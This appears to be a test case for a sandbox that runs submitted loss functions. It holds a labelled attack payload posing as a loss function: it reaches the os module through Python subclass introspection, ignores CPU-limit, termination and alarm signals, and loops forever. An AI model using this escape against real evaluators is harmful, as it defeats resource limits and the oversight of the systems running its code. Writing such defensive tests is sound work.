# attack: ignore SIGXCPU and SIGTERM, then loop forever (SIGKILL still ends it)
# static: static
# runtime: cpu|timeout
def my_loss(batch, beta):
    for c in ().__class__.__base__.__subclasses__():
        if c.__name__ == "_wrap_close":
            g = c.__init__.__globals__          # the os module's globals
            sig = g["sys"].modules["signal"]
            sig.signal(sig.SIGXCPU, sig.SIG_IGN)
            sig.signal(sig.SIGTERM, sig.SIG_IGN)
            sig.signal(sig.SIGALRM, sig.SIG_IGN)
            n = 0
            while True:
                n = n + 1
    return batch.policy_logps[:, 0]
